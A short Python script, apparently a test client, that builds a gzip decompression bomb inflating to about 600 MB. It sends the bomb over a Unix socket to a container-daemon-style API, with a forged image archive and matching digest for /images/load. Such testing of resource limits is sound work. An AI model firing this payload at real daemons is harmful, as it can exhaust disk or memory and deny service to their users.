# bomb_client.py SOCKET IMAGE METHOD PATH: sends a small body that inflates to 600 MB, all of it, and goes.
# Its last entry is the file "end"; for /images/load it is the one layer of a good archive of IMAGE.
import gzip
import hashlib
import io
import json
import socket
import sys
import tarfile

SOCK, IMAGE, METHOD, PATH = sys.argv[1:]
ZEROS, TIMES = bytes(10 << 20), 60


def header(name, size):
    i = tarfile.TarInfo(name)
    i.size = size
    return i.tobuf()


def archive(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w') as t:
        for name, data in files:
            i = tarfile.TarInfo(name)
            i.size = len(data)
            t.addfile(i, io.BytesIO(data))
    return out.getvalue()


head, tail = header('f', len(ZEROS) * TIMES), header('end', 0) + bytes(1024)
body = gzip.compress(head) + gzip.compress(ZEROS) * TIMES + gzip.compress(tail)
if PATH.startswith('/images/load'):
    h = hashlib.sha256(head)
    for _ in range(TIMES):
        h.update(ZEROS)
    h.update(tail)
    config = {'rootfs': {'type': 'layers', 'diff_ids': ['sha256:' + h.hexdigest()]}}
    manifest = [{'Config': 'c', 'RepoTags': [IMAGE], 'Layers': ['l']}]
    body = archive([('l', body), ('c', json.dumps(config).encode()), ('manifest.json', json.dumps(manifest).encode())])
s = socket.socket(socket.AF_UNIX)
s.connect(SOCK)
s.sendall(f'{METHOD} {PATH} HTTP/1.1\r\nHost: d\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body)
